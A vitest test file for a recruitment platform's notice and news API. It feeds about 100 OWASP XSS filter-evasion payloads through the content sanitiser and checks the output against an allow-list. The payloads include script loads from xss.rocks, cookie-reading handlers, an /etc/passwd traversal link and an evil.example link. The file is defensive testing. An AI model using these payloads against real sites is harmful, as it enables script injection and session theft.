import {
  PUBLICATION_MESSAGES, companyNoticeList, deleteNews, deleteNotice, getCompanyNoticeDetail, newsDetail,
  newsList, noticeList, publishNews, publishNotice, topNotice, withdrawNews, withdrawNotice,
} from '@zhaokao/contracts';
import { eq, inArray } from 'drizzle-orm';
import { Parser } from 'htmlparser2';
import { beforeAll, describe, expect, it } from 'vitest';
import { companyPublication, companyPublicationAttachment, recruitmentPlan, storedFile } from '../../db/tables.js';
import { expectError, expectOthersNotFound, expectRefusedUnchanged, snapshotOf, useTestApp } from '../../test/app.js';
import { publicationCalls } from './publication.support.js';

const t = useTestApp();
const { id, notice, news } = publicationCalls(t);
const snapshot = snapshotOf(t, { publication: companyPublication, attachment: companyPublicationAttachment, file: storedFile });

/**
 * OWASP's XSS filter evasion cheat sheet (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html),
 * and a few more of the same kind: each is saved as a notice's and a news item's content and read back.
 */
const XSS_VECTORS = [
  `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`,
  `'';!--"<XSS>=&{()}`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav	ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x00;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#0ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<svg/onload=alert('XSS')>`,
  `<svg><script>alert(1)</script></svg>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<p style="width: expression(alert('XSS'));">expression</p>`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
  `<STYLE>li {behavior: url(xss.htc);}</STYLE><li>behaviour</li>`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')"><tr><td>table</td></tr></TABLE>`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">td</TD></TABLE>`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">div</DIV>`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">div</DIV>`,
  `<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">div</DIV>`,
  `<DIV STYLE="width: expression(alert('XSS'));">div</DIV>`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<a href="jav&#x09;ascript:alert('XSS')">tab link</a>`,
  `<a href="&#x6A;avascript:alert(1)">hex link</a>`,
  `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">decimal link</a>`,
  `<a href="  JaVaScRiPt:alert(1)">mixed-case link</a>`,
  `<a href="java\nscript:alert(1)">newline link</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
  `<a href="vbscript:msgbox(1)">vbscript link</a>`,
  `<a href="javascript&colon;alert(1)">colon entity link</a>`,
  `<img src="data:image/png;base64,iVBORw0KGgo=">`,
  `<img src="https://example.com/a.png" onerror=alert(1) style="position:fixed;top:0;left:0;width:100%;height:100%">`,
  `<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background-color:#fff">overlay</p>`,
  `<span style="display:none">hidden</span><span style="visibility:hidden;opacity:0">hidden</span>`,
  `<p style="color:red;transform:scale(10)">transform</p>`,
  `<form action="javascript:alert(1)"><input type="submit" formaction="javascript:alert(1)"><button>x</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<details open ontoggle=alert(1)>details</details>`,
  `<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>`,
  `<p title="</p><script>alert(1)</script>">attribute break</p>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<a href="/api/files/../../etc/passwd">path link</a><img src="/api/files/%2e%2e/x.png">`,
  `<a href="//evil.example/x">protocol-relative</a><img src="//evil.example/x.png">`,
];

const ALLOWED_TAGS = new Set([
  'p', 'br', 'h1', 'h2', 'h3', 'h4', 'strong', 'b', 'em', 'i', 'u', 's', 'blockquote', 'ul', 'ol', 'li', 'a', 'img',
  'table', 'thead', 'tbody', 'tr', 'th', 'td', 'hr', 'code', 'pre', 'span',
]);
const ALLOWED_ATTRIBUTES = new Set(['style', 'href', 'rel', 'target', 'src', 'alt', 'width', 'height', 'colspan', 'rowspan']);

/** What in `html` could run or cover the page: elements and attributes off the allow-list, unsafe addresses and styles. */
function problemsOf(html: string) {
  const problems: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        if (!ALLOWED_TAGS.has(name)) problems.push(`element <${name}>`);
        for (const [attr, value] of Object.entries(attribs)) {
          if (attr.startsWith('on')) problems.push(`handler ${attr}`);
          if (!ALLOWED_ATTRIBUTES.has(attr)) problems.push(`attribute ${attr}`);
          // The parser has decoded the entities; control characters and whitespace are what a browser skips.
          // eslint-disable-next-line no-control-regex
          const address = value.replace(/[\u0000-\u0020\u007f-\u00a0]/g, '').toLowerCase();
          if (/^(?:javascript|vbscript|data):/.test(address) || address.includes('javascript:')) problems.push(`${attr}=${value}`);
          if ((attr === 'href' || attr === 'src') && !/^(?:https?:\/\/|mailto:|\/api\/files\/)/.test(address)) problems.push(`${attr}=${value}`);
          if (attr === 'src' && !/^(?:https:\/\/|\/api\/files\/)/.test(address)) problems.push(`src=${value}`);
          if (attr === 'target' && value !== '_blank') problems.push(`target=${value}`);
          if (attr === 'style' && /position|display|visibility|opacity|z-index|transform|expression|behavior|binding|url\(|top|left|width|height|@import|\\/i.test(value)) {
            problems.push(`style=${value}`);
          }
        }
        if (name === 'a' && attribs.rel !== 'noopener noreferrer') problems.push('a without rel');
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  if (/<\s*\/?\s*(?:script|style|iframe|object|embed|svg|math|form|meta|base|link)/i.test(html)) problems.push('raw tag text');
  return problems;
}

let plan1: number;
let plan2: number;
let file1: number;
let image1: number;
let image1Key: string;
let file2: number;
let image2: number;
let video1: number;

async function addFile(companyId: number, uploaderId: number, kind: 'file' | 'image' | 'video', name: string) {
  const key = `${companyId}/202611/${kind}-${Math.random().toString(36).slice(2)}.${kind === 'image' ? 'png' : kind === 'video' ? 'mp4' : 'pdf'}`;
  const [row] = await t.db
    .insert(storedFile)
    .values({ companyId, uploaderId, key, originalName: `${name}.pdf`, mime: 'application/pdf', size: 10, kind })
    .returning({ id: storedFile.id, key: storedFile.key });
  return row!;
}

const day = (n: number) => new Date(Date.now() + n * 86_400_000);

async function addPlan(companyId: number, name: string) {
  const [row] = await t.db
    .insert(recruitmentPlan)
    .values({ companyId, name, signUpStartDate: day(1), signUpEndDate: day(10), writtenStartDate: day(20), auditionStartDate: day(30) })
    .returning({ id: recruitmentPlan.id });
  return row!.id;
}

beforeAll(async () => {
  plan1 = await addPlan(t.company1, '湘江测试计划');
  plan2 = await addPlan(t.company2, '医院测试计划');
  file1 = (await addFile(t.company1, t.adminId, 'file', '招聘简章')).id;
  const image = await addFile(t.company1, t.adminId, 'image', '封面');
  image1 = image.id;
  image1Key = image.key;
  video1 = (await addFile(t.company1, t.adminId, 'video', '视频')).id;
  file2 = (await addFile(t.company2, t.hospitalId, 'file', '医院附件')).id;
  image2 = (await addFile(t.company2, t.hospitalId, 'image', '医院封面')).id;
});

describe('XSS: content is cut down to the allow-list', () => {
  it(`keeps nothing executable of ${XSS_VECTORS.length} filter-evasion vectors, as notice and as news`, async () => {
    expect(XSS_VECTORS.length).toBeGreaterThanOrEqual(50);
    const failures: string[] = [];
    for (const vector of XSS_VECTORS) {
      const content = `<p>正文</p>${vector}`;
      const noticeId = id(await notice(t.admin, { content }));
      const newsId = id(await news(t.admin, { content }));
      const shown = [
        (await t.call(getCompanyNoticeDetail, { id: noticeId }, { token: t.admin })).data.content,
        (await t.call(newsDetail, { id: newsId }, { token: t.admin })).data.content,
      ];
      for (const html of shown) {
        expect(html).toContain('正文');
        const problems = problemsOf(html);
        if (problems.length > 0) failures.push(`${vector}\n  → ${html}\n  ${problems.join('; ')}`);
      }
    }
    expect(failures).toEqual([]);
  });

  it('the checker itself finds what it looks for', () => {
    expect(problemsOf('<img src="jav&#x09;ascript:alert(1)">')).not.toEqual([]);
    expect(problemsOf('<p style="position:fixed">x</p><div onclick="x">y</div>')).toHaveLength(4);
    expect(problemsOf('<a href="https://example.com" rel="noopener noreferrer" target="_blank">x</a>')).toEqual([]);
  });

  it('keeps what the editor makes: headings, lists, tables, colours, alignment, links and our own or https images', async () => {
    const content = [
      '<h2 style="text-align: center">标题</h2>',
      '<p><strong>粗</strong><em>斜</em><u>下划线</u><s>删除</s><span style="color: #ff0000; background-color: rgb(255, 255, 0)">彩色</span></p>',
      '<ul><li>一</li></ul><ol><li>二</li></ol><blockquote>引用</blockquote><pre><code>code</code></pre><hr />',
      '<table><thead><tr><th colspan="2">表头</th></tr></thead><tbody><tr><td rowspan="2">格</td><td>格</td></tr></tbody></table>',
      '<p><a href="https://example.com/a" target="_blank">外链</a><a href="mailto:hr@example.cn">邮件</a><a href="/api/files/1/202611/a.pdf">附件</a></p>',
      `<p><img src="/api/files/${image1Key}" alt="图" width="300" height="200" /><img src="https://example.com/b.png" /></p>`,
    ].join('');
    // https images only from the hosts CONTENT_IMAGE_HOSTS names (see the next test).
    t.app.deps.config.contentImageHosts = ['example.com'];
    const saved = id(await notice(t.admin, { content }).finally(() => (t.app.deps.config.contentImageHosts = [])));
    const html = (await t.call(getCompanyNoticeDetail, { id: saved }, { token: t.admin })).data.content;
    expect(problemsOf(html)).toEqual([]);
    for (const kept of [
      '<h2 style="text-align:center">标题</h2>',
      '<span style="color:#ff0000;background-color:rgb(255, 255, 0)">彩色</span>',
      '<th colspan="2">表头</th>',
      '<td rowspan="2">格</td>',
      '<a href="https://example.com/a" target="_blank" rel="noopener noreferrer">外链</a>',
      '<a href="mailto:hr@example.cn" rel="noopener noreferrer">邮件</a>',
      `<img src="/api/files/${image1Key}" alt="图" width="300" height="200" />`,
      '<img src="https://example.com/b.png" />',
      '<pre><code>code</code></pre>',
    ]) {
      expect(html).toContain(kept);
    }
    // An image of the content is shown to candidates once published: it became public-readable.
    const [file] = await t.db.select({ isPublic: storedFile.isPublic }).from(storedFile).where(eq(storedFile.id, image1));
    expect(file!.isPublic).toBe(true);
  });

  it('shows only the company’s own images and https images of the configured hosts', async () => {
    const foreign = await addFile(t.company2, t.hospitalId, 'image', '医院图片');
    const notImage = await addFile(t.company1, t.adminId, 'file', '附件');
    const content = [
      '<p>正文</p>',
      `<img src="/api/files/${image1Key}">`,
      `<img src="/api/files/${foreign.key}">`,
      `<img src="/api/files/${notImage.key}">`,
      '<img src="https://tracker.example.net/pixel.png">',
      '<img src="https://img.example.com/a.png">',
      '<img src="https://img.example.com:8443/b.png">',
    ].join('');
    const shown = async () => {
      const saved = id(await notice(t.admin, { content }));
      return (await t.call(getCompanyNoticeDetail, { id: saved }, { token: t.admin })).data.content;
    };
    expect(await shown()).toBe(`<p>正文</p><img src="/api/files/${image1Key}" />`);
    t.app.deps.config.contentImageHosts = ['img.example.com'];
    try {
      expect(await shown()).toBe(`<p>正文</p><img src="/api/files/${image1Key}" /><img src="https://img.example.com/a.png" />`);
    } finally {
      t.app.deps.config.contentImageHosts = [];
    }
    // Another company's image alone is no content at all.
    await expectRefusedUnchanged(snapshot, () => notice(t.admin, { content: `<img src="/api/files/${foreign.key}">` }), 400, PUBLICATION_MESSAGES.emptyContent);
  });

  it('refuses content that is empty once sanitised, and saves nothing', async () => {
    const [mine] = (await t.call(companyNoticeList, {}, { token: t.admin })).data.list;
    for (const content of ['<script>alert(1)</script>', '<p>  </p><br>', '<img src="javascript:alert(1)">', '<style>p{}</style><iframe src="https://x.com"></iframe>', '<p>&nbsp;</p>']) {
      await expectRefusedUnchanged(snapshot, () => notice(t.admin, { content }), 400, PUBLICATION_MESSAGES.emptyContent);
      await expectRefusedUnchanged(snapshot, () => notice(t.admin, { id: mine!.id, content }), 400, PUBLICATION_MESSAGES.emptyContent);
      await expectRefusedUnchanged(snapshot, () => news(t.admin, { content }), 400, PUBLICATION_MESSAGES.emptyContent);
    }
    // An image alone is content.
    expect((await news(t.admin, { content: `<p><img src="/api/files/${image1Key}"></p>` })).status).toBe(200);
  });
});

describe('公示公告', () => {
  it('saves a draft with a plan and attachments, edits it keeping its state, publishes, withdraws and deletes it', async () => {
    const saved = await notice(t.admin, { title: '  招聘公告  ', recruitmentId: plan1, attachmentIds: [file1, image1], content: '<p>正文</p>' });
    const noticeId = id(saved);
    const detail = (await t.call(getCompanyNoticeDetail, { id: noticeId }, { token: t.admin })).data;
    expect(detail).toMatchObject({
      id: noticeId,
      title: '招聘公告',
      status: 'draft',
      top: false,
      publishedAt: null,
      recruitmentId: plan1,
      recruitmentName: '湘江测试计划',
      attachmentCount: 2,
      createdByName: '王敏',
      content: '<p>正文</p>',
    });
    expect(detail.attachments.map((a) => a.id)).toEqual([file1, image1]);
    expect(detail.attachments[0]!.url).toMatch(/^\/api\/files\/\d+\/202611\/.+\.pdf$/);
    const files = await t.db.select({ isPublic: storedFile.isPublic }).from(storedFile).where(inArray(storedFile.id, [file1, image1]));
    expect(files.every((f) => f.isPublic)).toBe(true);

    expect(await t.call(publishNotice, { id: noticeId }, { token: t.admin })).toMatchObject({ status: 200, msg: '发布成功' });
    // Edited while published: it stays published; the attachments are replaced in the new order.
    id(await notice(t.admin, { id: noticeId, title: '招聘公告（更正）', attachmentIds: [image1], recruitmentId: null }));
    const edited = (await t.call(getCompanyNoticeDetail, { id: noticeId }, { token: t.admin })).data;
    expect(edited).toMatchObject({ title: '招聘公告（更正）', status: 'published', recruitmentId: null, recruitmentName: '', attachmentCount: 1 });
    expect(edited.publishedAt).toEqual(expect.any(String));

    await expectRefusedUnchanged(snapshot, () => t.call(deleteNotice, { id: noticeId }, { token: t.admin }), 409, PUBLICATION_MESSAGES.deletePublished);
    await expectRefusedUnchanged(snapshot, () => t.call(publishNotice, { id: noticeId }, { token: t.admin }), 409, PUBLICATION_MESSAGES.alreadyPublished);
    expect(await t.call(withdrawNotice, { id: noticeId }, { token: t.admin })).toMatchObject({ status: 200, msg: '已撤回' });
    await expectRefusedUnchanged(snapshot, () => t.call(withdrawNotice, { id: noticeId }, { token: t.admin }), 409, PUBLICATION_MESSAGES.notPublished);
    expect((await t.call(getCompanyNoticeDetail, { id: noticeId }, { token: t.admin })).data.status).toBe('withdrawn');
    expect(await t.call(deleteNotice, { id: noticeId }, { token: t.admin })).toMatchObject({ status: 200, msg: '删除成功' });
    expectError(await t.call(getCompanyNoticeDetail, { id: noticeId }, { token: t.admin }), 404, '公告不存在');
    expect(await t.db.select().from(companyPublicationAttachment).where(eq(companyPublicationAttachment.publicationId, noticeId))).toEqual([]);
  });

  it('lists every state for the company, filtered; the reader’s list only the published, pinned first then the newest', async () => {
    const a = id(await notice(t.admin, { title: '列表甲', recruitmentId: plan1 }));
    const b = id(await notice(t.admin, { title: '列表乙' }));
    const c = id(await notice(t.admin, { title: '列表丙' }));
    const draft = id(await notice(t.admin, { title: '列表草稿' }));
    for (const n of [a, b, c]) expect((await t.call(publishNotice, { id: n }, { token: t.admin })).status).toBe(200);
    expect(await t.call(topNotice, { id: a, top: true }, { token: t.admin })).toMatchObject({ status: 200, msg: '置顶设置已保存' });

    const feed = (await t.call(noticeList, { keyword: '列表', pageSize: 50 }, { token: t.shenhe })).data;
    expect(feed.list.map((r) => r.id)).toEqual([a, c, b]);
    expect(feed.total).toBe(3);
    expect(feed.list[0]).toMatchObject({ top: true, recruitmentName: '湘江测试计划', status: 'published' });
    const all = (await t.call(noticeList, { pageSize: 200 }, { token: t.admin })).data.list;
    expect(all.every((r) => r.status === 'published')).toBe(true);
    expect(all.map((r) => r.id)).not.toContain(draft);
    const tops = all.map((r) => r.top);
    expect(tops.indexOf(false) === -1 || tops.slice(tops.indexOf(false)).every((x) => !x)).toBe(true);
    expect((await t.call(noticeList, { recruitmentId: plan1 }, { token: t.admin })).data.list.map((r) => r.id)).toContain(a);

    const company = async (input: object) => (await t.call(companyNoticeList, { keyword: '列表', pageSize: 50, ...input }, { token: t.admin })).data;
    expect((await company({})).list.map((r) => r.id).sort()).toEqual([a, b, c, draft].sort());
    expect((await company({ status: 'draft' })).list.map((r) => r.id)).toEqual([draft]);
    expect((await company({ recruitmentId: plan1 })).list.map((r) => r.id)).toEqual([a]);
    expect((await company({ keyword: '%' })).list).toEqual([]);
    expect((await company({ pageSize: 2 })).list).toHaveLength(2);
    expect((await company({ pageSize: 2 })).total).toBe(4);
    expect((await t.call(companyNoticeList, { keyword: '列表' }, { token: t.hospital })).data.list).toEqual([]);

    expect((await t.call(topNotice, { id: a, top: false }, { token: t.admin })).status).toBe(200);
    expect((await t.call(getCompanyNoticeDetail, { id: a }, { token: t.admin })).data.top).toBe(false);
  });

  it('refuses bad input with its Chinese message and changes nothing', async () => {
    const mine = id(await notice(t.admin, { title: '原标题' }));
    for (const [input, code, msg] of [
      [{ title: '   ' }, 400, '请输入标题'],
      [{ title: '长'.repeat(101) }, 400, '标题最长 100 个字'],
      [{ content: '' }, 400, PUBLICATION_MESSAGES.emptyContent],
      [{ content: 'x'.repeat(200_001) }, 400, '正文内容过长，请删减后再保存'],
      [{ attachmentIds: [file1, file1] }, 400, '附件不能重复'],
      [{ attachmentIds: Array.from({ length: 11 }, (_, i) => i + 1) }, 400, '附件最多 10 个'],
      [{ attachmentIds: [file1, file2] }, 400, PUBLICATION_MESSAGES.attachmentNotFound],
      [{ attachmentIds: [video1] }, 400, PUBLICATION_MESSAGES.attachmentNotFound],
      [{ attachmentIds: [999999] }, 400, PUBLICATION_MESSAGES.attachmentNotFound],
      [{ recruitmentId: plan2 }, 400, '招录计划不存在'],
      [{ recruitmentId: 999999 }, 400, '招录计划不存在'],
      [{ top: 'yes' }, 400, '置顶标记只能是是或否'],
    ] as const) {
      for (const payload of [input, { ...input, id: mine }]) {
        await expectRefusedUnchanged(snapshot, () => notice(t.admin, payload as never), code, msg);
      }
    }
    expect((await t.call(getCompanyNoticeDetail, { id: mine }, { token: t.admin })).data.title).toBe('原标题');
    // 100 characters are taken.
    expect((await notice(t.admin, { title: '长'.repeat(100) })).status).toBe(200);
  });

  it('another company’s notice answers 404 on every call and is left as it was', async () => {
    const mine = id(await notice(t.admin, { title: '湘江的公告' }));
    const theirs = id(await notice(t.hospital, { title: '医院的公告' }));
    for (const send of [
      (token: string, n: number) => t.call(getCompanyNoticeDetail, { id: n }, { token }),
      (token: string, n: number) => notice(token, { id: n, title: '改掉' }),
      (token: string, n: number) => t.call(publishNotice, { id: n }, { token }),
      (token: string, n: number) => t.call(withdrawNotice, { id: n }, { token }),
      (token: string, n: number) => t.call(deleteNotice, { id: n }, { token }),
      (token: string, n: number) => t.call(topNotice, { id: n, top: true }, { token }),
    ]) {
      await expectOthersNotFound(t, send, { mine, theirs }, '公告不存在', snapshot);
    }
    // A news item's id is not a notice's.
    const newsId = id(await news(t.admin));
    await expectRefusedUnchanged(snapshot, () => t.call(getCompanyNoticeDetail, { id: newsId }, { token: t.admin }), 404, '公告不存在');
    await expectRefusedUnchanged(snapshot, () => t.call(publishNotice, { id: newsId }, { token: t.admin }), 404, '公告不存在');
    expectError(await t.get('/api/admin/message/getCompanyNoticeDetail/abc', t.admin), 400, '公告编号必须是数字');
  });

  it('without content:publish, staff read but do not write', async () => {
    const mine = id(await notice(t.admin, { title: '只读公告' }));
    expect((await t.call(companyNoticeList, {}, { token: t.shenhe })).status).toBe(200);
    expect((await t.call(getCompanyNoticeDetail, { id: mine }, { token: t.shenhe })).status).toBe(200);
    for (const call of [
      () => notice(t.shenhe),
      () => notice(t.shenhe, { id: mine }),
      () => t.call(publishNotice, { id: mine }, { token: t.shenhe }),
      () => t.call(withdrawNotice, { id: mine }, { token: t.shenhe }),
      () => t.call(deleteNotice, { id: mine }, { token: t.shenhe }),
      () => t.call(topNotice, { id: mine, top: true }, { token: t.shenhe }),
    ]) {
      await expectRefusedUnchanged(snapshot, call, 403, '您没有执行该操作的权限');
    }
  });
});

describe('新闻', () => {
  it('saves with a cover and summary, keeps its state on edit, publishes, withdraws and deletes', async () => {
    const newsId = id(await news(t.admin, { title: '新闻标题', summary: '  摘要  ', coverId: image1, top: true }));
    const detail = (await t.call(newsDetail, { id: newsId }, { token: t.shenhe })).data;
    expect(detail).toMatchObject({ id: newsId, title: '新闻标题', summary: '摘要', status: 'draft', top: true, content: '<p>新闻正文</p>' });
    expect(detail.cover).toEqual({ id: image1, name: '封面.pdf', url: `/api/files/${image1Key}` });
    expect(detail).not.toHaveProperty('recruitmentId');

    expect(await t.call(publishNews, { id: newsId }, { token: t.admin })).toMatchObject({ status: 200, msg: '发布成功' });
    id(await news(t.admin, { id: newsId, title: '新闻标题（改）', coverId: null }));
    expect((await t.call(newsDetail, { id: newsId }, { token: t.admin })).data).toMatchObject({ status: 'published', cover: null, summary: '' });

    const listed = (await t.call(newsList, { status: 'published', keyword: '（改）' }, { token: t.shenhe })).data;
    expect(listed.list.map((r) => r.id)).toEqual([newsId]);
    expect(listed.list[0]).not.toHaveProperty('content');
    expect((await t.call(newsList, { status: 'draft', keyword: '（改）' }, { token: t.admin })).data.list).toEqual([]);

    await expectRefusedUnchanged(snapshot, () => t.call(deleteNews, { id: newsId }, { token: t.admin }), 409, PUBLICATION_MESSAGES.deletePublished);
    expect(await t.call(withdrawNews, { id: newsId }, { token: t.admin })).toMatchObject({ status: 200, msg: '已撤回' });
    expect(await t.call(publishNews, { id: newsId }, { token: t.admin })).toMatchObject({ status: 200, msg: '发布成功' });
    expect((await t.call(withdrawNews, { id: newsId }, { token: t.admin })).status).toBe(200);
    expect(await t.call(deleteNews, { id: newsId }, { token: t.admin })).toMatchObject({ status: 200, msg: '删除成功' });
    expectError(await t.call(newsDetail, { id: newsId }, { token: t.admin }), 404, '新闻不存在');
  });

  it('refuses bad input with its Chinese message and changes nothing', async () => {
    const mine = id(await news(t.admin, { title: '原新闻' }));
    for (const [input, msg] of [
      [{ title: '' }, '请输入标题'],
      [{ title: '长'.repeat(101) }, '标题最长 100 个字'],
      [{ summary: '长'.repeat(201) }, '摘要最长 200 个字'],
      [{ coverId: image2 }, PUBLICATION_MESSAGES.coverNotFound],
      [{ coverId: file1 }, PUBLICATION_MESSAGES.coverNotFound],
      [{ coverId: 999999 }, PUBLICATION_MESSAGES.coverNotFound],
      [{ content: '<script>alert(1)</script>' }, PUBLICATION_MESSAGES.emptyContent],
    ] as const) {
      for (const payload of [input, { ...input, id: mine }]) await expectRefusedUnchanged(snapshot, () => news(t.admin, payload as never), 400, msg);
    }
  });

  it('another company’s news item answers 404 on every call; without content:publish only reading is allowed', async () => {
    const mine = id(await news(t.admin, { title: '湘江新闻' }));
    const theirs = id(await news(t.hospital, { title: '医院新闻' }));
    for (const send of [
      (token: string, n: number) => t.call(newsDetail, { id: n }, { token }),
      (token: string, n: number) => news(token, { id: n }),
      (token: string, n: number) => t.call(publishNews, { id: n }, { token }),
      (token: string, n: number) => t.call(withdrawNews, { id: n }, { token }),
      (token: string, n: number) => t.call(deleteNews, { id: n }, { token }),
    ]) {
      await expectOthersNotFound(t, send, { mine, theirs }, '新闻不存在', snapshot);
    }
    const noticeId = id(await notice(t.admin));
    await expectRefusedUnchanged(snapshot, () => t.call(newsDetail, { id: noticeId }, { token: t.admin }), 404, '新闻不存在');
    expect((await t.call(newsList, {}, { token: t.admin })).data.list.map((r) => r.id)).not.toContain(theirs);

    expect((await t.call(newsList, {}, { token: t.shenhe })).status).toBe(200);
    expect((await t.call(newsDetail, { id: mine }, { token: t.shenhe })).status).toBe(200);
    for (const call of [
      () => news(t.shenhe),
      () => t.call(publishNews, { id: mine }, { token: t.shenhe }),
      () => t.call(withdrawNews, { id: mine }, { token: t.shenhe }),
      () => t.call(deleteNews, { id: mine }, { token: t.shenhe }),
    ]) {
      await expectRefusedUnchanged(snapshot, call, 403, '您没有执行该操作的权限');
    }
  });
});

describe('the demo', () => {
  it('has a published notice, a draft and a published news item for each company, sanitised', async () => {
    for (const token of [t.admin, t.hospital]) {
      const notices = (await t.call(companyNoticeList, { pageSize: 200 }, { token })).data.list;
      expect(notices.some((r) => r.status === 'published' && r.top)).toBe(true);
